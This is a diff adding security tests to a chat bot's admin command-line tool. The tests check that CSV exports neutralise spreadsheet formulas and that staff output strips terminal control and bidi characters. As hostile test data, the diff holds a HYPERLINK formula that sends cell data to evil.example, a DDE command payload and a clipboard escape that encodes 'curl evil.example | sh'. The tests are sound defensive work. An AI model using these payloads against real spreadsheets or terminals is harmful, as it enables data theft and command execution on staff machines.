@@ -8,6 +8,7 @@ a process per call); what a person would see is read from stdout and stderr.
 from __future__ import annotations
 
 import asyncio
+import csv
 import os
 import stat
 from collections.abc import Iterator
@@ -16,6 +17,8 @@ from pathlib import Path
 import pytest
 
 from bot import cli
+from bot.dialogue.staff import unanswered_reply
+from bot.reply import B_CLOSE, B_OPEN
 from storage.sqlite import SqliteStore
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -143,3 +146,86 @@ def test_every_command_on_the_database_runs_with_a_private_umask(
     code, _, err = run_cli(monkeypatch, capsys, database, *command)
     assert code == 0, err
     assert seen == [0o077]
+
+
+# --------------------------------------------------------------------------------------------------
+# 2. Spreadsheet formula injection / 6. Terminal control sequences reach staff
+# --------------------------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"جزئیات")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
+            "\t=1+1", "\r=1+1"]
+ESCAPES = {
+    "clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
+    "clear": "\x1b[2J\x1b[H",
+    "colour": "\x1b[31mقرمز\x1b[0m",
+    "c1-csi": "\x9b2J",
+    "bidi-override": "\u202eabc\u202c",
+    "bidi-isolate": "\u2066abc\u2069",
+    "bell-backspace": "a\x07\x08b",
+}
+FORBIDDEN = {chr(c) for c in range(0x20) if chr(c) != "\n"} | {chr(c) for c in range(0x7f, 0xa0)} | {
+    chr(c) for c in (*range(0x202a, 0x202f), *range(0x2066, 0x206a), 0x200f, 0x061c, 0x200b, 0xfeff)}
+
+
+def hostile_database(tmp_path: Path) -> tuple[Path, str]:
+    """A database whose citizen text is hostile: formulas, escape sequences, bidi overrides; returns it and
+    the tracking code of a request whose answers and staff note are hostile too."""
+    database = tmp_path / "bot.db"
+
+    async def seed() -> str:
+        async with await SqliteStore.open(database) as db:
+            for text in (*FORMULAS, *ESCAPES.values(), "می‌خواهم ثبت‌نام کنم"):
+                await db.log.add("telegram", 7, 7, "in", text, answered=False, normalized=text)
+            answers = {"full_name": FORMULAS[0], "province": ESCAPES["clipboard"] + ESCAPES["bidi-override"],
+                       "note": "-2+3"}
+            created = await db.requests.create(KARA, "telegram", 7, 7, None, None, answers)
+            await db.requests.set_status(created.tracking_code, "under_review", note=ESCAPES["clear"] + "=1+1")
+            return created.tracking_code
+
+    return database, asyncio.run(seed())
+
+
+def test_no_export_cell_starts_a_formula(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    database, _ = hostile_database(tmp_path)
+    cells: list[str] = []
+    for what, *extra in (("logs",), ("requests",), ("requests", "--with-personal-data")):
+        out = tmp_path / f"{what}{len(extra)}.csv"
+        code, _, err = run_cli(monkeypatch, capsys, database, "export", what, "--out", str(out), *extra)
+        assert code == 0, err
+        with out.open(encoding="utf-8-sig", newline="") as f:
+            rows = list(csv.reader(f))
+        cells += [cell for row in rows for cell in row]
+    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+            or cell.lstrip()[:1] in ("=", "+", "-", "@")]
+    assert live == []
+    assert "'-2+3" in cells and "'@SUM(1+1)" in cells  # still there, as text
+    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
+
+
+def test_staff_output_carries_no_control_or_bidi_characters(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    database, code = hostile_database(tmp_path)
+    outputs = {}
+    for args in (["logs"], ["logs", "--unanswered"], ["stats"], ["requests", "list"], ["requests", "show", code]):
+        status, out, err = run_cli(monkeypatch, capsys, database, *args)
+        assert status == 0, err
+        outputs[" ".join(args[:2])] = out + err
+    export = tmp_path / "logs.csv"
+    assert run_cli(monkeypatch, capsys, database, "export", "logs", "--out", str(export))[0] == 0
+    outputs["export"] = export.read_text(encoding="utf-8-sig").replace("\r\n", "\n")
+    for name, text in outputs.items():
+        assert sorted({f"U+{ord(ch):04X}" for ch in text if ch in FORBIDDEN}) == [], name
+    assert "می‌خواهم ثبت‌نام کنم" in outputs["logs"]  # ZWNJ kept: Persian needs it
+    assert "قرمز" in outputs["logs"] and "abc" in outputs["logs"]  # the words stay, the sequences go
+    assert "قرمز" in outputs["stats"]
+
+
+async def test_unanswered_questions_reach_the_admin_chat_without_control_or_bidi_characters(tmp_path: Path) -> None:
+    async with await SqliteStore.open(tmp_path / "bot.db") as db:
+        for text in ESCAPES.values():
+            await db.log.add("telegram", 7, 7, "in", text, answered=False, normalized=text)
+        reply = await unanswered_reply(db)
+    assert sorted({f"U+{ord(ch):04X}" for ch in reply.text if ch in FORBIDDEN - {B_OPEN, B_CLOSE}}) == []
